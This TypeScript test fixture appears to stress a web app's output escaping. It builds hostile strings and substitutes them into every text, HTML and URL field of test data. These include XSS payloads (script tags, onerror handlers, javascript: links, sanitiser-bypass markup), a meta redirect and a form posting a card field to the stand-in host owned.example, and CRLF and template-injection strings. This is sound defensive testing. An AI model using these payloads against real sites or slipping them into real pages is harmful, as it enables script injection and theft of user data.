import { hostileTexts } from './hostile.ts'

/** Leads away, takes what is typed, runs or marks what an attacker wrote; `owned` stands in all of it. */
const elements = [
  '<x-owned data-owned onowned=owned()>',
  '<meta http-equiv=refresh content=0;url=https://owned.example/>',
  '<base href=https://owned.example/>',
  '<form action=https://owned.example/><input name=card-owned></form>',
  '<img src=x onerror=owned()>',
  '<script>owned()</script>',
].join('')

/** Ends whatever a text may stand in: an attribute, an element of raw text, a comment, a block of data. */
const endings = `'"></noscript></title></textarea></script></style></template></astro-island>--></x>`

/** What a text means to i18next, to templates and to files of lines. */
const signs = '{{owned}} $t(nav.tickets) ${owned()} %0a\r\n/owned\n  X-Owned: 1\n\u2028javascript:owned()'

/** A text that tries all of it at once. It is no longer than a name may be. */
export const hostileName = `${endings}${elements}${signs}`

/** Plain text of staff, with all else that people type to see what happens. */
export const hostileText = [hostileName, ...Object.values(hostileTexts)].join(' ').slice(0, 20_000)

/** HTML of staff, with what has slipped through sanitisers. */
const hostileHtml = [
  hostileText,
  '<a href="javascript:owned()">a</a><a href="mailto:x</noscript><x-owned>">b</a><a href=//owned.example onclick=owned()>c</a>',
  '<p style="x:url(owned)" class=owned id=owned title="</noscript><x-owned>">d</p>',
  '<noscript><p title="</noscript><x-owned>">e</p></noscript><template><x-owned></template>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;x-owned&gt;">',
  '<svg><style><x-owned></style><a xlink:href="javascript:owned()">f</a><title><x-owned></title></svg>',
  '<iframe srcdoc="<x-owned>"></iframe><object data=owned></object><embed src=owned><style>*{owned:1}</style>',
].join('')

/** An address that is one, and says more than it should where it isn't escaped. */
const hostileAddress = `https://museum.example/"'></noscript><x-owned/{width}/onerror=owned()`

/** Times, ids and choices, without which nothing would be on sale and so nothing printed. */
const needed =
  /^(?:id|\w*[iI]d|\w*_id|datetime\w*|sorting_datetime|first|last|end|type|timeZone|homeView|languages|required_fields|visible_fields)$/

/** The same data with every text in it hostile, by what its field is for. */
export function hostile(value: unknown, key = ''): unknown {
  if (needed.test(key)) return value
  if (Array.isArray(value)) return value.map((one) => hostile(one, key))
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, hostile(one, name)]))
  if (typeof value !== 'string' || /^-?\d+$/.test(value)) return value
  if (/html|^text$/.test(key)) return hostileHtml
  if (/image|link|url/i.test(key)) return hostileAddress
  if (key === 'description' || key === 'teaser') return hostileText
  return hostileName
}
